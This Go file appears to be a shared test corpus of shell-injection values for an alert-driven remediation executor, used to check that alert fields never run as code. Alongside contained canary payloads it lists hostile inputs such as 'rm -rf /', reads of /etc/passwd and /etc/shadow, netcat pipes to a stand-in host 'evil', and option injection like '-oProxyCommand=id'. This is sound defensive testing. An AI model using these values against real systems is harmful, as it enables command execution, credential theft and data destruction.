// Package injection is the executor's shared injection corpus: values an
// attacker could put in an alert (a label, a host name, an instance id)
// hoping that the executor turns them into code on a customer's machine.
// Every test of "alert text never becomes code" uses the same values, so
// the runbook patterns, the SSH quoting, the SSM document parameters and
// the engine end to end are held to one list.
//
// The corpus has shell syntax of every kind (separators, pipes, command
// substitution, backticks, quotes, redirections, variables, globs and
// brace expansion, comments, history expansion, here-documents), newlines
// and every other byte, option injection (a leading "-"), path traversal,
// Unicode look-alikes, invalid UTF-8, NUL, and very long values. It is
// for tests only; it lives outside a _test file so that every package's
// tests can import it.
//
// A value that would do something if a shell ever ran it only does
// something visible and contained: it creates the file Canary (or
// Canary+"2") in the shell's working directory, or removes, truncates or
// appends to one of Files there. A test runs the values in a temporary
// directory holding Files and checks afterwards that nothing in it
// changed, so a quoting bug shows as a failed test, never as damage to
// the machine running it.
package injection

import (
	"strings"
)

// Canary is the file a payload creates if it runs.
const Canary = "canary"

// Files are the files a glob or a redirection in a payload would find or
// change in the working directory.
var Files = []string{"a", "b", "ab"}

// Corpus returns the corpus, each value once, in a fixed order. The
// caller may modify the returned slice.
func Corpus() []string {
	var vals []string
	vals = append(vals, shellSyntax()...)
	vals = append(vals, everyByte()...)
	vals = append(vals, separators()...)
	vals = append(vals, alertFields()...)
	vals = append(vals, documentParameters()...)
	vals = append(vals, longValues()...)
	return dedupe(vals)
}

// shellSyntax is a table of POSIX shell (and bash) syntax, alone and
// around a command that would leave a trace.
func shellSyntax() []string {
	return []string{
		"", " ", "  ", "a b", "a  b", ";", "; touch canary", "a;touch canary", ";touch canary;",
		"| touch canary", "|touch canary", "||touch canary", "&& touch canary", "& touch canary &", "&",
		"$(touch canary)", "`touch canary`", "$(touch canary)$(touch canary2)", "$((1+1))", "$[1+1]",
		"${IFS}", "a${IFS}b", "${IFS}touch${IFS}canary", "$IFS", "$HOME", "$USER", "${PATH}", "${HOME:-x}",
		"${#HOME}", "$0", "$@", "$*", "$#", "$$", "$?", "$!", "$-", "$1", "$9", "${10}", "$", "$'\\x41'", `$"x"`,
		"\n", "\ntouch canary", "a\nb", "a\ntouch canary\nb", "\r", "\r\ntouch canary", "\t", "\ttab\t", "\v\f",
		"'", "''", "'''", `'\''`, "'; touch canary; '", "' ; touch canary ; echo '", "a'b", "'$(touch canary)'",
		`"`, `""`, `"; touch canary; "`, `"$(touch canary)"`, "\"`touch canary`\"", `a"b`, `'"'"'`,
		`\`, `\\`, `\'`, `\"`, `\n`, `\t`, `\0`, `\x41`, `\101`, `\c`, `a\`, `\;touch canary`, "\\\ntouch canary",
		"*", "?", "[a]", "[!a]", "[ab]*", "a*", "*a", "**", "{a,b}", "{1..3}", "/*", ".*", "~", "~root", "~/x",
		"x~", "~+", "-", "-n", "-e", "-E", "--", "--opt", "--opt=1", "-v", "--help", "-rf", "--version",
		"!", "!!", "!-1", "!$", "^a^b", "#", "# comment", "a #b", "a#b", "%s", "%n", "%%", "%d", "%b", "%q",
		"<", ">", ">canary", ">>canary", "2>canary", "&>canary", "<canary", "<<EOF", "<<<x", "<(touch canary)",
		">(touch canary)", "2>&1", "1>&2", "a=b", "IFS=x", "PATH=", "exec touch canary", "eval touch canary",
		". /dev/null", "source /dev/null", "(touch canary)", "{ touch canary; }", "function f { :; }", "f() { :; }",
		"\x01", "\x1b[31mred\x1b[0m", "\x7f", "\x08\x08", "é", "日本語", "🙂", "\u202e", "\u00a0", "\u2028",
		"\ufeff", "\xff\xfe", "\xc3", "\xed\xa0\x80", "a", "ls -la /", "rm -rf /", "shutdown -h now",
		"$(echo $(touch canary))", "$(cat /etc/passwd)", "`id`", "$(id)", "${!HOME}", "${HOME/\\//x}",
		"\\$(touch canary)", "'\\''$(touch canary)'\\''",
	}
}

// everyByte is every byte but NUL between two letters.
func everyByte() []string {
	vals := make([]string, 0, 255)
	for b := 1; b < 256; b++ {
		vals = append(vals, "x"+string([]byte{byte(b)})+"y")
	}
	return vals
}

// separators puts each way of ending or nesting a command, in the
// positions an attack would use, in front of a command that leaves a trace.
func separators() []string {
	var vals []string
	for _, sep := range []string{";", "|", "||", "&&", "&", "\n", "\r\n", "`", "$(", ")", "'", `"`, `\`, "${", "}", "<", ">"} {
		for _, form := range []string{"%stouch canary", "a%s touch canary", "%s touch canary %s", "'%s touch canary #", `"%s touch canary #`} {
			vals = append(vals, strings.ReplaceAll(form, "%s", sep))
		}
	}
	return vals
}

// alertFields are payloads before and after the values real alerts carry
// (host names, paths, instance ids, unit names), options, path traversal,
// Unicode look-alikes of safe characters and invalid UTF-8.
func alertFields() []string {
	bases := []string{"web-01", "/var/log", "i-0123456789abcdef0", "nginx.service", "db1.example.com"}
	payloads := []string{
		";touch canary", "; rm -f a", "|id", "| nc evil 4444", "&&id", "& id", "||true",
		"$(id)", "$(rm -f a)", "${IFS}id", "$HOME", "`id`", "`rm -f b`",
		"\nid", "\r\nid", "\tid", " id", "'", "\"", "';id;'", "\";id;\"",
		"<x", ">./a", ">>a", "2>&1", "(id)", "{a,b}", "*", "?", "[a-z]",
		"\x00", "\x00id", "\x1b[31m", "\\", "%0aid", "#", "!",
	}
	var vals []string
	for _, b := range bases {
		for _, p := range payloads {
			vals = append(vals, b+p, p+b)
		}
	}
	// Options rather than values.
	vals = append(vals, "-rf", "--help", "-oProxyCommand=id", "--output=/etc/passwd", "-", "--", "-n", "--path=/")
	// Path traversal and globs.
	vals = append(vals, "../../etc/passwd", "/var/../../etc/shadow", "/tmp/*", "/var/log/*.log", "..", "/..", "web-01/../x", "/var/log/?", "~root")
	// Unicode look-alikes of safe characters and separators.
	vals = append(vals,
		"web\u201101",   // non-breaking hyphen
		"web\u221201",   // minus sign
		"\u2013rf",      // en dash as an option
		"web\uff1bid",   // fullwidth semicolon
		"web\u037eid",   // Greek question mark, looks like ;
		"w\u0435b-01",   // Cyrillic e
		"web-01\u200b",  // zero-width space
		"web-01\u202e",  // right-to-left override
		"/var\u2215log", // division slash
		"i-0123456789abcdef\u0030\u0301",
		"nginx\uff0eservice", // fullwidth full stop
		"web\u00a001",        // no-break space
		"\ufeffweb-01",       // byte-order mark
	)
	// Invalid UTF-8.
	vals = append(vals, "web-01\xff", "\xc0\xafetc")
	return vals
}

// documentParameters are values aimed at an SSM document's script, which
// reads its parameters from the environment, and at the JSON that carries
// them.
func documentParameters() []string {
	return []string{
		"/var/log; rm -f a",
		"`cat /etc/shadow`",
		"/tmp\nrm -f a\n",
		"a\r\nb\tc",
		`"'"'; echo "pwned`,
		"--no-preserve-root",
		"${SSM_path}$HOME",
		"x | nc evil 1 > ./a",
		"日本語 ✓ \u202e",
		"a\x00b",
		`C:\Windows\System32\ \"`,
		`{"__type":"x","Parameters":{"path":["/"]}}`,
	}
}

// longValues are around and far beyond what a parameter may hold
// (runbook.MaxValueBytes is 4096).
func longValues() []string {
	return []string{
		strings.Repeat("a", 4096),
		strings.Repeat("a", 4097),
		strings.Repeat("'", 4000),
		strings.Repeat("$(touch canary)", 4000/15),
		strings.Repeat("a", 8192),
		strings.Repeat("'", 8192),
		strings.Repeat(`'"$;|&\`+"`\n", 8192/10),
		strings.Repeat("日", 8192/3),
		strings.Repeat("$(touch canary)", 8192/15),
		strings.Repeat("A;$(x)`\n", 1280),
		strings.Repeat("a", 10_000),
		"/" + strings.Repeat("a", 10_000),
		strings.Repeat("i-0", 4000),
	}
}

// dedupe keeps the first of equal values, in order.
func dedupe(vals []string) []string {
	seen := make(map[string]bool, len(vals))
	out := vals[:0]
	for _, v := range vals {
		if !seen[v] {
			seen[v] = true
			out = append(out, v)
		}
	}
	return out
}
